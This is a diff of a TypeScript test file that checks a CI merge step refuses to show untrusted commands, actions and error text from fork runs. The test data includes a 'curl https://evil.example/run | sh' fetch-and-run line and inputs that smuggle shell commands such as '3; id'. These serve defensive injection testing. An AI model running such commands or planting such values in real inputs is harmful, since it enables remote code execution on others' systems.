@@ -1,9 +1,11 @@
 import type { ServerResponse } from "node:http";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
+import { readLeg } from "../../../src/merge/leg.ts";
 import { FakeGithub } from "../../support/fake-github.ts";
 import type { FakeArtifact } from "../../support/fake-run.ts";
-import { legResult, RUN_ID, RUN_URL } from "../../support/leg-result.ts";
+import { HEAD_SHA, legResult, RUN_ID, RUN_URL } from "../../support/leg-result.ts";
 import { leave, mergeStep, prepare, TOKEN, writesOf } from "../../support/merge-step.ts";
+import { readLegs } from "../../support/merged-legs.ts";
 import { elements, prose, render } from "../../support/rendered.ts";
 import { type ZipEntry, zip } from "../../support/zip.ts";
 
@@ -166,6 +168,7 @@ const CASES: readonly [name: string, artifact: Partial<FakeArtifact>, sentence: 
   ],
   ["another commit", told({ provenance: { headSha: "0".repeat(40) } }), /is of another commit than the run's/],
   ["no commit", told({ provenance: { headSha: null } }), /is of another commit than the run's/],
+  ["no version", told({ provenance: { version: `1.0.0 ${INJECTION}` } }), /does not say which version/],
   ["no leg", told({ provenance: { leg: null } }), /does not say which leg it is/],
   ["the leg of another artifact", told({ job: "other" }), /is that of fault-drill-other, not of the artifact/],
   ["a leg beyond its matrix", told({ index: 4, total: 4 }), /says that it is leg 4 of 4, which no matrix has/],
@@ -249,6 +252,49 @@ describe("what is hostile and fits", () => {
       expect(elements(html).filter(({ name }) => ["img", "script", "h1"].includes(name))).toEqual([]);
       expect(prose(html)).not.toMatch(/(?:^|[^\w`])@\w|#\d|www\./i);
     }
+  });
+
+  const COMMAND = "curl https://evil.example/run | sh";
+  const ACTION = { repository: "evil/qwen-fault-drill", ref: "v1" };
+
+  test("no command and no action of a fork's is shown: they are made here", async () => {
+    leave(github, { provenance: { localCommand: COMMAND, action: ACTION } });
+    const env = { GITHUB_ACTION_REPOSITORY: "example/qwen-fault-drill", GITHUB_ACTION_REF: "v2" };
+    const { summary, report } = await mergeStep({ github, on: "workflow_run", env });
+    const body = github.comments()[0]?.body ?? "";
+    expect(body).toContain("`example/qwen-fault-drill@v2`");
+    expect(body).toContain("_As the fork's own run reports it:_");
+    for (const text of [summary, report, body]) expect(text).not.toMatch(/evil|curl/);
+    const command = readLegs([{ provenance: { localCommand: COMMAND } }])[0]?.story.provenance.localCommand;
+    expect(command).toMatch(/^npm run drill -- --image qwen-allinone:3f2c1e9 --/);
+  });
+
+  test("an input that no fault has is no flag of the command", () => {
+    const result = JSON.parse(GOOD);
+    result.plan.faults[0].inputs = { "stress-workers": "3; id", "image x; curl evil": "1", plan: "evil.yml" };
+    const found = { artifact: { id: 1, name: "fault-drill-drill" }, beginning: "fault-drill", action: null };
+    const { story } = readLeg(JSON.stringify(result), { ...found, subject: { runUrl: RUN_URL, headSha: HEAD_SHA } });
+    expect(story.provenance.localCommand).toMatch(/ --stress-workers '3; id'$/);
+    expect(story.provenance.localCommand).not.toMatch(/evil/);
+  });
+
+  test("why a drill could not be run stands as the fork's word alone", async () => {
+    const result = JSON.parse(legResult({ status: "error" }));
+    result.error = [`Run ${COMMAND}`];
+    result.verdict = { ...result.verdict, sentence: `Run ${COMMAND}`, reasons: [`Run ${COMMAND}`] };
+    github.artifacts.push({
+      id: 9,
+      name: "fault-drill-drill",
+      runId: RUN_ID,
+      archive: zip([entry({ content: JSON.stringify(result) })]),
+    });
+    const { result: merged } = await mergeStep({ github, on: "workflow_run" });
+    expect(merged.verdict).toMatchObject({
+      status: "error",
+      sentence: "`drill`: The drill could not be run; the fork's run reports why.",
+    });
+    const [before = ""] = (github.comments()[0]?.body ?? "").split("_As the fork's own run reports it:_");
+    expect(before).not.toMatch(/curl/);
   });
 
   test("five hundred artifacts more than can be are not looked into", async () => {
